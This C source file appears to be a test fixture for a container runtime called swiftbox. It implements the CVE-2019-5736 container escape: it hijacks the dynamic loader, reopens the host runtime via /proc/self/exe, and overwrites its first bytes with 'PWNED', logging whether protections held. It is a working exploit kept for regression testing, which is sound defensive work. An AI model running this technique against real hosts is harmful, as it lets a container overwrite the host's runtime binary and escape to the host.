// CVE-2019-5736 as DragonSector published it, for the tests: installed in a test image
// as the ELF interpreter (/lib64/ld-linux-x86-64.so.2), with /bin/sh replaced by a
// `#!/proc/self/exe` script. When swiftbox runs /bin/sh in the container (exec, a
// CMD-SHELL health probe), the kernel runs /proc/self/exe — the swiftbox binary that
// launched it — and, that binary being dynamically linked, starts *this* file as its
// interpreter, inside the container, with /proc/self/exe still being that binary.
//
// It opens /proc/self/exe, reports whether the file is writable at all, and leaves a
// child that executes this file again as a plain program (so that it no longer runs
// the binary itself), waits until nothing runs the binary (open for writing fails with
// ETXTBSY until then) and writes "PWNED" over its first bytes. Lines in /out/result:
//   interp pid=N ro=0|1 sealed=0|1 first=ERRNO   (the file, and an immediate open O_WRONLY)
//   final wrote | final denied ERRNO | final busy
//
// An interpreter runs before any libc is set up (no TLS, no relocations), so this is
// freestanding: raw system calls only. Build: gcc -static-pie -nostdlib -fPIE
// -ffreestanding -fno-stack-protector -fno-builtin -O1 (x86_64).
#include <fcntl.h>
#include <sys/syscall.h>
#include <sys/vfs.h>

static long sc(long n, long a, long b, long c, long d) {
    long ret;
    register long r10 __asm__("r10") = d;
    __asm__ volatile("syscall" : "=a"(ret) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
    return ret;
}


static char *put(char *p, const char *s) { while (*s) *p++ = *s++; return p; }

static char *num(char *p, long v) {
    char tmp[24];
    int n = 0;
    if (v < 0) { *p++ = '-'; v = -v; }
    do { tmp[n++] = (char)('0' + v % 10); v /= 10; } while (v);
    while (n) *p++ = tmp[--n];
    return p;
}

static void say(int out, char *line, char *end) { sc(SYS_write, out, (long)line, end - line, 0); }

static void nap(long ms) {
    long ts[2] = { 0, ms * 1000000 };
    sc(SYS_nanosleep, (long)ts, 0, 0, 0);
}

__attribute__((noreturn)) static void quit(int code) {
    for (;;) sc(SYS_exit_group, code, 0, 0, 0);
}

/// The second stage: a plain process holding the binary open as descriptor `fd`.
__attribute__((noreturn)) static void writer(int out, long fd) {
    char line[64], path[64], *p;
    p = put(path, "/proc/self/fd/"); p = num(p, fd); *p = 0;
    for (int i = 0; i < 600; i++) {
        long w = sc(SYS_open, (long)path, O_WRONLY, 0, 0);
        if (w == -26 /* ETXTBSY: still running somewhere */) { nap(50); continue; }
        if (w < 0) { p = put(line, "final denied "); p = num(p, -w); *p++ = '\n'; say(out, line, p); quit(0); }
        long n = sc(SYS_pwrite64, w, (long)"PWNED", 5, 0);
        if (n == 5) p = put(line, "final wrote\n");
        else { p = put(line, "final denied "); p = num(p, -n); *p++ = '\n'; }
        say(out, line, p);
        quit(0);
    }
    p = put(line, "final busy\n");
    say(out, line, p);
    quit(0);
}

static int same(const char *a, const char *b) {
    while (*a && *a == *b) { a++; b++; }
    return *a == *b;
}

/// `sp`: the initial stack — argc, then argv.
__attribute__((noreturn, used)) void hijack_main(long *sp) {
    char line[256], path[64], *p;
    long argc = sp[0];
    char **argv = (char **)(sp + 1);
    int out = (int)sc(SYS_open, (long)"/out/result", O_WRONLY | O_CREAT | O_APPEND, 0644, 0);
    if (argc == 3 && same(argv[1], "--writer")) {
        long fd = 0;
        for (const char *c = argv[2]; *c; c++) fd = fd * 10 + (*c - '0');
        writer(out, fd);
    }
    // As the interpreter of the binary the kernel is starting.
    int fd = (int)sc(SYS_open, (long)"/proc/self/exe", O_RDONLY, 0, 0);
    if (fd < 0) {
        p = put(line, "interp open-exe="); p = num(p, -fd); p = put(p, "\nfinal denied "); p = num(p, -fd); *p++ = '\n';
        say(out, line, p);
        quit(0);
    }
    struct statfs fs;
    long ro = sc(SYS_fstatfs, fd, (long)&fs, 0, 0) == 0 && (fs.f_flags & 1 /* ST_RDONLY */);
    long seals = sc(SYS_fcntl, fd, 1034 /* F_GET_SEALS */, 0, 0);
    long sealed = seals > 0 && (seals & 8 /* F_SEAL_WRITE */);
    p = put(path, "/proc/self/fd/"); p = num(p, fd); *p = 0;
    long w = sc(SYS_open, (long)path, O_WRONLY, 0, 0);
    p = put(line, "interp pid="); p = num(p, sc(SYS_getpid, 0, 0, 0, 0));
    p = put(p, " ro="); p = num(p, ro);
    p = put(p, " sealed="); p = num(p, sealed);
    p = put(p, " first="); p = num(p, w < 0 ? -w : 0); *p++ = '\n';
    say(out, line, p);
    if (w >= 0) sc(SYS_close, w, 0, 0, 0);

    if (sc(SYS_fork, 0, 0, 0, 0) != 0) quit(0);   // the parent ends: swiftbox sees its program exit
    sc(SYS_setsid, 0, 0, 0, 0);
    char number[24];
    *num(number, fd) = 0;
    char *args[] = { "exe-hijack", "--writer", number, 0 };
    char *env[] = { 0 };
    sc(SYS_execve, (long)"/lib64/ld-linux-x86-64.so.2", (long)args, (long)env, 0);
    p = put(line, "final cannot-exec\n");
    say(out, line, p);
    quit(0);
}

// The entry point: the kernel jumps here with the stack holding argc, argv, envp, auxv.
__asm__(".text\n.globl _start\n_start:\n\txor %rbp, %rbp\n\tmov %rsp, %rdi\n\tand $-16, %rsp\n\tcall hijack_main\n\thlt\n");
